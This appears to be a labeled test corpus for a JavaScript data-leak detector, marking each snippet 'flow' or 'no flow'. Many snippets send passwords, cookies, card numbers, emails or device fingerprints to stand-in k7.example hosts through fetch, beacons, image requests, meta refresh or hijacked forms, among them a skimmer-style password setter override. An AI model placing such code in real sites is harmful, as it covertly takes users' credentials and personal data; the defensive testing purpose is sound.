//# proxy-tracked-model
// flow: email > pxm.k7.example via fetch
function observe(target, onChange) {
  return new Proxy(target, {
    set(obj, key, value, receiver) {
      const ok = Reflect.set(obj, key, value, receiver);
      onChange(key, value);
      return ok;
    },
  });
}
const model = observe({ email: '' }, (key, value) => { fetch('https://pxm.k7.example/patch', { method: 'PATCH', body: JSON.stringify({ [key]: value }) }); });
document.querySelector('input[type=email]').addEventListener('change', (e) => { model.email = e.target.value; });

//# proxy-api-by-property-name
// flow: identifier > pxa.k7.example via fetch
const api = new Proxy({}, {
  get: (_, name) => (params) => fetch(`https://pxa.k7.example/${String(name)}`, { method: 'POST', body: JSON.stringify(params) }),
});
api.identify({ id: document.cookie });

//# proxy-key-reported-only
// no flow
// why: the trap reports which key was set, not the value
const watched = new Proxy({}, {
  set(obj, key, value) { navigator.sendBeacon('https://pxk0.k7.example/k', key); obj[key] = value; return true; },
});
watched.pin = document.querySelector('input[type=password]').value;

//# define-property-intercepts-value
// flow: password > dpi.k7.example via image
const box = document.querySelector('input[type=password]');
const native = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(box, 'value', {
  get() { return native.get.call(this); },
  set(v) { new Image().src = 'https://dpi.k7.example/?v=' + encodeURIComponent(v); native.set.call(this, v); },
});
box.value = localStorage.getItem('draft-password') ?? document.querySelector('#repeat[type=password]').value;

//# accessor-derived-payload
// flow: name > adp.k7.example via fetch
class Visitor {
  first = document.querySelector('input[autocomplete=given-name]').value;
  get label() { return this.first.trim() || 'guest'; }
  toJSON() { return { label: this.label }; }
}
fetch('https://adp.k7.example/v', { method: 'POST', body: JSON.stringify(new Visitor()) });

//# client-interceptor-redacts
// no flow
// why: the only interceptor strips the password out of every body before it is sent
class Client {
  interceptors = [];
  use(fn) { this.interceptors.push(fn); return this; }
  async post(url, body) {
    let request = { url, body };
    for (const fn of this.interceptors) request = await fn(request);
    return fetch(request.url, { method: 'POST', body: JSON.stringify(request.body) });
  }
}
const redacting = new Client().use(({ url, body: { password, ...rest } }) => ({ url, body: rest }));
redacting.post('https://cir0.k7.example/log', { password: document.querySelector('input[type=password]').value, step: 'login' });

//# client-interceptor-adds-identifier
// flow: identifier > cia.k7.example via fetch
const pipeline = [];
const http = {
  use: (fn) => pipeline.push(fn),
  send: (req) => pipeline.reduce((p, fn) => p.then(fn), Promise.resolve(req)).then((r) => fetch(r.url, { headers: r.headers })),
};
http.use(async (req) => ({ ...req, headers: { ...req.headers, 'x-visitor': localStorage.getItem('visitor') } }));
http.send({ url: 'https://cia.k7.example/feed', headers: {} });

//# axios-interceptor-deletes-field
// no flow
// why: the request interceptor deletes the card number
import axios from 'axios';
const shop = axios.create({ baseURL: 'https://aid0.k7.example' });
shop.interceptors.request.use((config) => { delete config.data.card; return config; });
shop.post('/event', { name: 'pay', card: document.querySelector('input[autocomplete=cc-number]').value });

//# retry-with-abort-timeout
// flow: phone > rat.k7.example via fetch
async function withTimeout(fn, ms) {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), ms);
  try { return await fn(controller.signal); } finally { clearTimeout(timer); }
}
async function retry(fn, { times = 3, delay = 200 } = {}) {
  for (let n = 1; ; n++) {
    try { return await fn(n); } catch (error) {
      if (n >= times) throw error;
      await new Promise((r) => setTimeout(r, delay * 2 ** n));
    }
  }
}
const tel = document.querySelector('input[type=tel]').value;
await retry(() => withTimeout((signal) => fetch('https://rat.k7.example/v1/phone', { method: 'POST', body: JSON.stringify({ tel }), signal }), 5000));

//# debounced-autosave-latest
// flow: message > das.k7.example via fetch
const debounce = (fn, wait = 200) => {
  let id;
  const run = (...args) => { clearTimeout(id); id = setTimeout(fn, wait, ...args); };
  run.cancel = () => clearTimeout(id);
  return run;
};
const autosave = debounce((draft, key) => { fetch(`https://das.k7.example/d/${key}`, { method: 'PUT', body: draft }); }, 800);
document.querySelector('textarea[name=message]').addEventListener('input', ({ target }) => autosave(target.value, 'm1'));

//# debounced-second-argument
// no flow
// why: the debounced function ignores its first argument and sends the second, the name of the draft
const later = (fn, wait) => { let id; return (...args) => { clearTimeout(id); id = setTimeout(() => fn(...args), wait); }; };
const note = later((_draft, key) => { fetch('https://dsa0.k7.example/d?k=' + key); }, 800);
document.querySelector('textarea[name=message]').addEventListener('input', ({ target }) => note(target.value, 'm1'));

//# idle-flush-of-class-queue
// flow: interaction > ifq.k7.example via beacon
class Recorder {
  #buffer = [];
  static #instance;
  static get() { return (Recorder.#instance ??= new Recorder()); }
  constructor() {
    document.addEventListener('pointermove', (e) => this.#push({ x: e.clientX, y: e.clientY, t: performance.now() }), { passive: true });
    document.addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') this.flush(); });
  }
  #push(event) { this.#buffer.push(event); if (this.#buffer.length > 50) requestIdleCallback(() => this.flush()); }
  flush() {
    const batch = this.#buffer.splice(0);
    if (batch.length) navigator.sendBeacon('https://ifq.k7.example/r', new Blob([JSON.stringify(batch)]));
  }
}
Recorder.get();

//# plugin-hooks-tap-async
// flow: device > pht.k7.example via fetch
class Hook { #taps = []; tap(name, fn) { this.#taps.push({ name, fn }); } async call(ctx) { for (const { fn } of this.#taps) await fn(ctx); return ctx; } }
class Sdk {
  hooks = { enrich: new Hook(), send: new Hook() };
  apply(...plugins) { plugins.forEach((p) => p.apply(this)); return this; }
  async track(name) { await this.hooks.send.call(await this.hooks.enrich.call({ name, context: {} })); }
}
const devicePlugin = { apply(sdk) { sdk.hooks.enrich.tap('device', (ctx) => { ctx.context.ua = navigator.userAgent; }); } };
const httpPlugin = (endpoint) => ({ apply(sdk) { sdk.hooks.send.tap('http', (ctx) => fetch(endpoint, { method: 'POST', body: JSON.stringify(ctx), keepalive: true })); } });
new Sdk().apply(devicePlugin, httpPlugin('https://pht.k7.example/c')).track('page');

//# plugin-not-applied
// no flow
// why: the plug-in that would add the cookie is defined but never applied
class Tap { #fns = []; tap(fn) { this.#fns.push(fn); } call(ctx) { for (const fn of this.#fns) fn(ctx); return ctx; } }
class Core { enrich = new Tap(); use(p) { p(this); return this; } send(name) { fetch('https://pna0.k7.example/c', { method: 'POST', body: JSON.stringify(this.enrich.call({ name })) }); } }
const cookiePlugin = (core) => core.enrich.tap((ctx) => { ctx.id = document.cookie; });
const timePlugin = (core) => core.enrich.tap((ctx) => { ctx.at = Date.now(); });
new Core().use(timePlugin).send('page');

//# entries-pick-then-from-entries
// flow: email > epf.k7.example via fetch
// why: near miss: the set of allowed keys leaves the password out
const ALLOWED = new Set(['email', 'plan']);
const raw = { email: document.querySelector('input[type=email]').value, password: document.querySelector('input[type=password]').value, plan: 'pro' };
const clean = Object.fromEntries(Object.entries(raw).filter(([k]) => ALLOWED.has(k)).map(([k, v]) => [`u_${k}`, String(v)]));
fetch('https://epf.k7.example/', { method: 'POST', body: JSON.stringify(clean) });

//# group-by-then-values
// flow: input > gbv.k7.example via fetch
const fields = [...document.querySelectorAll('form input')].map((el) => ({ section: el.dataset.section, value: el.value }));
const grouped = Object.groupBy(fields, (f) => f.section);
fetch('https://gbv.k7.example/', { method: 'POST', body: JSON.stringify(grouped) });

//# params-from-form-data-query
// flow: search > pfd.k7.example via navigation
document.querySelector('#find').addEventListener('submit', (e) => {
  e.preventDefault();
  const data = new FormData(e.currentTarget);
  const params = new URLSearchParams();
  params.set('q', document.querySelector('input[type=search]').value);
  params.set('n', String([...data.keys()].length));
  location.assign(`https://pfd.k7.example/results?${params}`);
});

//# form-data-submitter-append
// flow: password > fda.k7.example via fetch
document.querySelector('#login').addEventListener('submit', async (event) => {
  event.preventDefault();
  const data = new FormData();
  for (const { name, value } of event.target.querySelectorAll('input[type=password]')) data.append(name, value);
  await fetch('https://fda.k7.example/login', { method: 'POST', body: data });
});

//# weak-map-private-state
// flow: username > wmp.k7.example via fetch
const priv = new WeakMap();
class Account {
  constructor(user) { priv.set(this, { user, created: Date.now() }); }
  sync() { const { user } = priv.get(this); return fetch('https://wmp.k7.example/', { method: 'POST', body: user }); }
}
new Account(document.querySelector('input[name=username]').value).sync();

//# weak-map-other-member
// no flow
// why: only the time of creation is taken out of the private record
const hidden = new WeakMap();
class Visit {
  constructor(user) { hidden.set(this, { user, created: Date.now() }); }
  sync() { const { created } = hidden.get(this); return fetch('https://wmo0.k7.example/?t=' + created); }
}
new Visit(document.querySelector('input[name=username]').value).sync();

//# tagged-template-request
// flow: search > ttr.k7.example via fetch
const get = (strings, ...values) => fetch('https://ttr.k7.example' + strings.reduce((acc, s, i) => acc + encodeURIComponent(values[i - 1]) + s));
document.querySelector('input[type=search]').addEventListener('change', (e) => get`/search/${e.target.value}/page/${1}`);

//# tagged-template-strings-only
// no flow
// why: the tag keeps the fixed strings and drops the values
const log = (strings, ...values) => navigator.sendBeacon('https://tts0.k7.example/l', strings.join('?') + values.length);
log`signed in as ${document.querySelector('input[type=email]').value} at ${Date.now()}`;

//# dynamic-import-module-param
// flow: identifier > dip.k7.example via script
const uid = localStorage.getItem('uid');
const { start } = await import(`https://dip.k7.example/boot.mjs?u=${uid}`);
start();

//# dynamic-import-lazy-sender
// flow: email > dil.k7.example via fetch
const load = () => import('data:text/javascript,export const send = (v) => fetch("https://dil.k7.example/", { method: "POST", body: v });');
document.querySelector('input[type=email]').addEventListener('blur', async (e) => (await load()).send(e.target.value));

//# meta-refresh-inserted
// flow: identifier > mri.k7.example via navigation
document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0; url=https://mri.k7.example/next?c=${encodeURIComponent(document.cookie)}">`);

//# meta-description-inserted
// no flow
// why: a description leads nowhere
document.head.insertAdjacentHTML('beforeend', `<meta name="description" content="https://mdi0.k7.example/next?c=${encodeURIComponent(document.cookie)}">`);

//# base-element-moves-form
// flow: email > bmf.k7.example via form
const base = document.createElement('base');
base.href = 'https://bmf.k7.example/app/';
document.head.prepend(base);
const f = document.createElement('form');
f.method = 'post';
f.action = 'subscribe';
f.innerHTML = '<input type=hidden name=email>';
f.elements.email.value = document.querySelector('input[type=email]').value;
document.body.append(f);
f.submit();

//# intl-traits-collected-all-settled
// flow: device > ita.k7.example via fetch
const probes = {
  tz: async () => Intl.DateTimeFormat().resolvedOptions().timeZone,
  gpu: async () => (await navigator.gpu?.requestAdapter())?.info?.vendor,
  mem: async () => navigator.deviceMemory,
};
const settled = await Promise.allSettled(Object.entries(probes).map(async ([k, p]) => [k, await p()]));
const traits = Object.fromEntries(settled.filter((s) => s.status === 'fulfilled').map((s) => s.value));
await fetch('https://ita.k7.example/fp', { method: 'POST', body: JSON.stringify(traits) });

//# memoised-identity-promise
// flow: identifier > mip.k7.example via fetch
const once = (fn) => { let p; return () => (p ??= fn()); };
const visitorId = once(async () => {
  const kept = localStorage.getItem('vid');
  if (kept) return kept;
  const made = crypto.randomUUID();
  localStorage.setItem('vid', made);
  return made;
});
export async function page() { await fetch('https://mip.k7.example/p', { headers: { 'X-Visitor': await visitorId() } }); }

//# random-id-per-request
// no flow
// why: the id is made anew for each request and kept nowhere
export const ping = () => fetch('https://rip0.k7.example/p', { headers: { 'X-Request': crypto.randomUUID() } });
document.querySelector('input[type=email]').addEventListener('focus', ping);

//# replacer-function-masks
// no flow
// why: the replacer masks every text value
const masked = JSON.stringify({ email: document.querySelector('input[type=email]').value }, (key, value) => (typeof value === 'string' ? '•'.repeat(8) : value));
fetch('https://rfm0.k7.example/', { method: 'POST', body: masked });

//# using-disposable-transport
// flow: phone > udt.k7.example via fetch
class Transport {
  #queue = [];
  constructor(endpoint) { this.endpoint = endpoint; }
  add(item) { this.#queue.push(item); }
  close() { fetch(this.endpoint, { method: 'POST', body: JSON.stringify(this.#queue), keepalive: true }); }
}
document.querySelector('form').onsubmit = () => {
  const t = new Transport('https://udt.k7.example/b');
  try { t.add({ tel: document.querySelector('input[type=tel]').value }); } finally { t.close(); }
};

//# result-type-error-branch
// no flow
// why: only the error of a failed parse is sent, and that is one of two fixed texts
const parse = (s) => (/^\d+$/.test(s) ? { ok: true, value: s } : { ok: false, error: s ? 'not-digits' : 'empty' });
const r = parse(document.querySelector('input[autocomplete=cc-number]').value);
if (!r.ok) navigator.sendBeacon('https://rte0.k7.example/e', r.error);

//# url-pattern-search-params-of-address
// flow: email > ups.k7.example via beacon
// why: an address is not typed data; the field's value is what goes into the query
const target = new URL('/collect', 'https://ups.k7.example');
Object.entries({ m: document.querySelector('input[type=email]').value, v: '2' }).forEach(([k, v]) => target.searchParams.append(k, v));
navigator.sendBeacon(target);
